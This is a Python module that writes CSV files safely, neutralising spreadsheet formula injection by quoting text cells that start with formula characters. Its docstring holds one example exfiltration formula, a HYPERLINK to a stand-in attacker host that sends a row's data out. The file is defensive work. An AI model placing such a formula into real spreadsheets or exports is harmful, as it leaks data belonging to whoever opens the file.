"""CSV files that are safe to open in a spreadsheet (OWASP CSV injection guidance).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return can be run as a formula by
Excel, LibreOffice or Google Sheets (``=HYPERLINK("https://evil.example/?d="&A2, …)`` sends the row
away). Every CSV the jobs write goes through :func:`to_csv`, which prefixes such *text* cells with a single
quote: the spreadsheet shows the text, runs nothing. Numbers stay numbers (a negative score is a number,
not a formula); Parquet outputs are written verbatim. Applied to every text column: lead ids and rejected
values come from the input, and no text the job makes itself starts with these characters, so only
input-derived text is ever changed. A lead id such as ``=2+5`` is therefore ``'=2+5`` in a CSV output.
"""

from __future__ import annotations

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise_series(s: pd.Series) -> pd.Series:
    """The column with its formula-like text cells prefixed by ``'``; other cells (numbers, missing) as they were."""
    if not (s.dtype == object or pd.api.types.is_string_dtype(s) or isinstance(s.dtype, pd.CategoricalDtype)):
        return s
    first = s.astype("string").str[:1]
    hit = first.isin(FORMULA_START).fillna(False).to_numpy(dtype=bool, copy=True)
    if not hit.any():
        return s
    hit &= s.map(lambda v: isinstance(v, str)).to_numpy(dtype=bool)  # text only: a number -5 stays a number
    if not hit.any():
        return s
    out = s.astype(object).copy()
    out[hit] = "'" + out[hit].astype(str)
    return out


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text column neutralised (see the module docstring)."""
    out = frame.copy(deep=False)
    for c in out.columns:
        out[c] = neutralise_series(out[c])
    return out


def to_csv(frame: pd.DataFrame, path_or_buf, **kwargs) -> None:
    """``frame.to_csv`` with formula-like text cells neutralised."""
    neutralise(frame).to_csv(path_or_buf, **kwargs)
